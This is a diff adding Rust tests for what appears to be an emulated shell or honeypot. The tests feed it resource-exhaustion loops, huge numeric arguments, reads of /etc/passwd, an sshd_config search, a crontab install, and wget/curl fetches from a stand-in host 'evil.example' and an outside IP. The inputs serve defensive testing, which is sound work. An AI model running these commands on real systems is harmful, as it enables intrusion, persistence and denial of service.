@@ -148,6 +148,115 @@ fn no_line_takes_longer_than_its_work() {
     }
 }
 
+/// What multiplies is paid before it is made; what is left at the end is nothing.
+#[test]
+fn what_grows_is_paid_before_it_is_there() {
+    let persona = Persona::of([7; 32]);
+    let left = |line: String| {
+        let (mut place, mut output) = (Place::default(), Output::default());
+        place.bring(Vec::new(), 0);
+        let shell = Shell::new(&persona, b"root", NOON, false);
+        let _ = shell.run(line.as_bytes(), &mut place, &mut output);
+        shell.steps_left()
+    };
+    let long = |text: &str, times: usize| text.repeat(times);
+    let lines = [
+        alloc::format!("for i in {{1..500}}; do : {{1..512}}'{}'; done", long("A", 30_000)),
+        alloc::format!("for i in {{1..500}}; do x='{}'; done", long("A", 30_000)),
+        alloc::format!("while printf '{}' >/dev/null; do :; done", long("%511d", 3_000)),
+        long("cat /proc/loadavg >/dev/null;", 60),
+    ];
+    for line in lines {
+        assert_eq!(left(line.clone()), 0, "{}", &line[..60]);
+    }
+    assert!(left(alloc::format!("x='{}'", long("A", 30_000))) > 4_000, "said once it is paid once");
+    let squared = alloc::format!("yes a | tr -d '\\n' | xargs -I a echo '{}'", long("a", 15_000));
+    assert_eq!(answer(&[&squared]), (String::new(), "xargs: argument line too long\n".into()));
+}
+
+#[test]
+fn no_number_is_too_large() {
+    let most = "18446744073709551615";
+    for line in [
+        "grep -A N a /etc/passwd; grep -C N a /etc/passwd; grep -m N a /etc/passwd",
+        "dd if=/dev/zero of=/tmp/x bs=1G count=20000000000; dd if=/dev/zero bs=N count=N; dd if=/etc/passwd skip=N bs=N",
+        "cut -c N- /etc/passwd; cut --complement -f N /etc/passwd; cut -c1-N /etc/passwd; head -N /etc/passwd; tail -n +N /etc/passwd",
+        "printf '%Nd %.Nd %.Nf %*d' 1 2 3 -9223372036854775808 4; printf '%d %u %x' N N N; seq N; seq -9223372036854775808 9223372036854775807",
+        "expr -9223372036854775808 / -1; echo $((-9223372036854775808/-1)) $((2**9223372036854775807)) $((1<<N)); echo {N..1} {1..3..N}",
+        "xargs -n N echo < /etc/passwd; base64 -wN /etc/passwd; sort -k N /etc/passwd; exit N",
+    ] {
+        let _ = answer(&[&line.replace('N', most)]);
+    }
+}
+
+/// A word that is long is one, and what stands behind it is run.
+#[test]
+fn a_long_text_is_run_to_its_end() {
+    let script = "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa >/dev/null\n".repeat(60) + "echo end";
+    assert!(script.len() > 3_000);
+    assert_eq!(answer(&[&script]).0, "end\n");
+}
+
+/// What is found is what he made, too, and what is done with it is done.
+#[test]
+fn folders_are_looked_through() {
+    let made = "mkdir -p /tmp/q/d; cd /tmp/q; touch a d/b; echo x > d/c.sh; chmod +x d/c.sh;";
+    let table = [
+        ("find", ".\n./a\n./d\n./d/b\n./d/c.sh\n"),
+        ("find . -name '*.SH'; find . -iname '*.SH' -o -name a", "./a\n./d/c.sh\n"),
+        ("find d -maxdepth 1 -type f -empty; find . -perm -111 -type f; find . -size +0 -type f", "d/b\n./d/c.sh\n./d/c.sh\n"),
+        ("find . -type f -name b -delete; find d; rm -r d; find", "d\nd/c.sh\n.\n./a\n"),
+        ("find d -type f -exec cat {} \\; -print | tail -2; find . ! -type d | xargs -n1 basename", "x\nd/c.sh\na\nb\nc.sh\n"),
+        ("ls -R; ls -F d; ls -p; ls -m", ".:\na\nd\n\n./d:\nb\nc.sh\nb\nc.sh*\na\nd/\na, d\n"),
+        ("find / -name sshd_config 2>/dev/null; find . -mindepth 2 -path './d/*' -quit", "/etc/ssh/sshd_config\n"),
+        ("echo '* * * * * id' | crontab -; crontab -l; crontab -r; crontab -l 2>&1", "* * * * * id\nno crontab for root\n"),
+    ];
+    for (line, expected) in table {
+        assert_eq!(answer(&[&alloc::format!("{made} {line}")]).0, expected, "{line}");
+    }
+    let told = answer(&["wget -O- evil.example/x; curl evil.example/x; curl -s 198.51.100.9:81/x -S"]).1;
+    assert_eq!(
+        told,
+        "--2026-11-30 12:00:00--  http://evil.example/x\nResolving evil.example (evil.example)... failed: Temporary failure in name \
+         resolution.\nwget: unable to resolve host address \u{2018}evil.example\u{2019}\n".to_string()
+            + "  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current\n"
+            + "                                 Dload  Upload   Total   Spent    Left  Speed\n"
+            + "\r  0     0    0     0    0     0      0      0 --:--:-- --:--:-- --:--:--     0curl: (6) Could not resolve host: evil.example\n"
+            + "curl: (7) Failed to connect to 198.51.100.9 port 81 after 1 ms: Could not connect to server\n"
+    );
+}
+
+/// What was typed in one line is known in the next, and in no other shell.
+#[test]
+fn functions_and_what_is_exported_stay() {
+    let persona = Persona::of([7; 32]);
+    let shell = Shell::new(&persona, b"root", NOON, true);
+    let (mut place, mut output) = (Place::default(), Output::default());
+    for line in [
+        "f() {",
+        "echo \"f $1\"",
+        "}",
+        "f a; x=1; export y=2",
+        "bash -c 'f b; echo [$x$y]' 2>&1; env | grep -c ^x=",
+        "unset -f f; f 2>&1",
+    ] {
+        let _ = shell.run_line(line.as_bytes(), &mut place, &mut output);
+    }
+    assert_eq!(said(&output.out), "f a\nbash: line 1: f: command not found\n[2]\n0\n-bash: f: command not found\n");
+}
+
+/// A line that breaks off ends no session of who typed it.
+#[test]
+fn a_wrong_sum_is_no_end() {
+    let persona = Persona::of([7; 32]);
+    let shell = Shell::new(&persona, b"root", NOON, true);
+    let (mut place, mut output) = (Place::default(), Output::default());
+    for line in ["echo $((1+)); echo no", "echo ${x:?no}; echo no", "echo $?"] {
+        assert_eq!(shell.run_line(line.as_bytes(), &mut place, &mut output), Outcome::Prompt, "{line}");
+    }
+    assert_eq!(said(&output.out), "127\n");
+}
+
 const WORDS: [&str; 60] = [
     "echo",
     "cat",
